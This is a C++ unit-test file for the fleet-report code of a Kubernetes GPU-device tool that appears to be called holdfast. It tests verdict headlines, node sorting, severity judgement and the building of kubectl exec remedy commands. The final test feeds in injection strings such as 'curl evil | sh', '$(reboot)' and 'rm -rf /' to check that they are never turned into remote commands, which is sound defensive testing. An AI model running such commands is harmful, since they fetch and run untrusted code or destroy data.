#include "core/report/fleet.h"

#include <gtest/gtest.h>

namespace hf::report {
namespace {

NodeAnswer answer(const std::string& node, Level level, bool is_undecided = false) {
  NodeAnswer made;
  made.member = {.node = node, .name_space = "holdfast", .pod = "guard-" + node, .obstacle = {}};
  made.level = level;
  made.is_undecided = is_undecided;
  return made;
}

NodeAnswer silent(const std::string& node) {
  NodeAnswer made = answer(node, Level::good);
  made.error = "no answer within 20 s";
  return made;
}

FleetReport report_of(Question question, std::vector<NodeAnswer> nodes) {
  FleetReport report;
  report.question = question;
  report.nodes = std::move(nodes);
  return report;
}

TEST(FleetVerdict, SaysHowManyNodesHaveAProblem) {
  const NodeAnswer good = answer("a", Level::good);
  const NodeAnswer warned = answer("b", Level::warning);
  const NodeAnswer critical = answer("c", Level::critical);
  const NodeAnswer unclear = answer("d", Level::good, true);
  struct Case {
    Question question;
    std::vector<NodeAnswer> nodes;
    std::string headline;
    Level level;
  };
  const std::vector<Case> cases = {
      {Question::doctor, {good}, "the node is fine", Level::good},
      {Question::doctor, {good, good}, "all 2 nodes are fine", Level::good},
      {Question::doctor, {good, good, silent("e")}, "2 of 3 nodes are fine; 1 did not answer", Level::warning},
      {Question::doctor, {silent("e")}, "the node did not answer", Level::warning},
      {Question::doctor, {silent("e"), silent("f")}, "none of 2 nodes answered", Level::warning},
      {Question::doctor, {good, critical}, "1 of 2 nodes has critical problems", Level::critical},
      {Question::doctor,
       {critical, critical, warned, good, silent("e")},
       "2 of 5 nodes have critical problems, 1 has warnings; 1 did not answer",
       Level::critical},
      {Question::doctor, {good, warned, warned}, "2 of 3 nodes have warnings", Level::warning},
      {Question::doctor, {good, unclear}, "1 of 2 nodes cannot be judged", Level::warning},
      {Question::ps,
       {critical, warned},
       "1 of 2 nodes has containers that lack something, 1 has containers at risk",
       Level::critical},
      {Question::blame, {warned, warned}, "2 of 2 nodes had losses that were restored", Level::warning},
      {Question::cpu_status,
       {warned, good},
       "1 of 2 nodes has containers without the CPUs they should have",
       Level::warning},
  };
  for (const Case& one : cases) {
    const FleetVerdict verdict = verdict_of(report_of(one.question, one.nodes));
    EXPECT_EQ(verdict.headline, one.headline);
    EXPECT_EQ(verdict.level, one.level) << one.headline;
  }
}

TEST(FleetVerdict, DoesNotCountASilentNodeAsGoodOrBad) {
  NodeAnswer lost = silent("x");
  lost.level = Level::critical;
  const FleetVerdict verdict = verdict_of(report_of(Question::doctor, {lost, answer("a", Level::good)}));
  EXPECT_EQ(verdict.critical, 0U);
  EXPECT_EQ(verdict.unanswered, 1U);
}

TEST(FleetReport, IsSortedByHowBadTheNodesAre) {
  FleetReport report = report_of(
      Question::doctor, {silent("a"), answer("z", Level::good), answer("b", Level::good), answer("c", Level::warning),
                         answer("d", Level::critical), answer("e", Level::good, true)});
  std::string order;
  sort_worst_first(report);
  for (const NodeAnswer& one : report.nodes) {
    order += one.member.node;
  }
  EXPECT_EQ(order, "dcebza");
  sort_by_name(report);
  EXPECT_EQ(report.nodes.front().member.node, "a");
  EXPECT_EQ(report.nodes.back().member.node, "z");
}

TEST(Judge, KnowsProblemsFromNotesAndDoubts) {
  const auto finding = [](const std::string& code, Severity severity) {
    return Finding{.code = code,
                   .severity = severity,
                   .subject = {},
                   .container = {},
                   .what = {},
                   .because = {},
                   .evidence = {},
                   .cure = {}};
  };
  const Finding note = finding("HF-301", Severity::note);
  const Finding doubt = finding("HF-116", Severity::warning);
  const Finding warning = finding("HF-201", Severity::warning);
  const Finding critical = finding("HF-101", Severity::critical);
  EXPECT_EQ(judge(std::vector<Finding>{note}).level, Level::good);
  EXPECT_FALSE(judge(std::vector<Finding>{note}).is_undecided);
  EXPECT_EQ(judge(std::vector{doubt, note}).level, Level::good);
  EXPECT_TRUE(judge(std::vector{doubt, note}).is_undecided);
  EXPECT_EQ(judge(std::vector{doubt, warning}).level, Level::warning);
  EXPECT_EQ(judge(std::vector{critical, warning}).level, Level::critical);
}

TEST(Judge, KnowsLossesThatLast) {
  BlameRecord change;
  BlameRecord healed;
  healed.devices = {"/dev/nvidia0"};
  healed.loss_ns = 1000;
  BlameRecord lasting = healed;
  lasting.loss_ns.reset();
  EXPECT_EQ(judge(std::vector{change}).level, Level::good);
  EXPECT_EQ(judge(std::vector{change, healed}).level, Level::warning);
  EXPECT_EQ(judge(std::vector{lasting, healed}).level, Level::critical);
}

TEST(Judge, KnowsStatesOfContainers) {
  using container::State;
  for (const auto& [state, level] :
       {std::pair(State::ok, Level::good), std::pair(State::not_owed, Level::good),
        std::pair(State::at_risk, Level::warning), std::pair(State::unknown, Level::good),
        std::pair(State::partial, Level::critical), std::pair(State::lost, Level::critical)}) {
    ContainerLine line;
    line.state = state;
    const Judgement judgement = judge(std::vector{ContainerLine(), line});
    EXPECT_EQ(judgement.level, level) << to_string(state);
    EXPECT_EQ(judgement.is_undecided, state == State::unknown) << to_string(state);
  }
}

TEST(CureFromAfar, CanBeTypedWhereKubectlIs) {
  FleetReport report;
  report.kubectl = {"kubectl", "--context=my cluster"};
  const FleetMember member = {.node = "gpu-7", .name_space = "holdfast", .pod = "guard-x", .obstacle = {}};
  const std::string head = "kubectl '--context=my cluster' exec -n holdfast guard-x -c guard -- holdfast ";
  EXPECT_EQ(cure_from_afar(report, member, "holdfast heal train/main"), head + "heal train/main");
  EXPECT_EQ(cure_from_afar(report, member, "holdfast grant train 'c 195:0 rw'   # until the next update"),
            head + "grant train 'c 195:0 rw'");
}

TEST(CureFromAfar, NeverCompletesWhatANodeCouldSmuggleIn) {
  const FleetReport report;
  const FleetMember member = {.node = "gpu-7", .name_space = "holdfast", .pod = "guard-x", .obstacle = {}};
  for (const char* cure :
       {"holdfast heal x; curl evil | sh", "holdfast heal $(reboot)", "holdfast heal x && rm -rf /",
        "modprobe nvidia-uvm", "holdfast setup containerd, then runtimeClassName: holdfast in the pod",
        "holdfast heal `x`", "holdfast", ""}) {
    EXPECT_EQ(cure_from_afar(report, member, cure), "on gpu-7: " + std::string(cure));
  }
  EXPECT_EQ(cure_from_afar(report, member, "holdfast heal 'x; reboot'"),
            "kubectl exec -n holdfast guard-x -c guard -- holdfast heal 'x; reboot'");
}

}  // namespace
}  // namespace hf::report
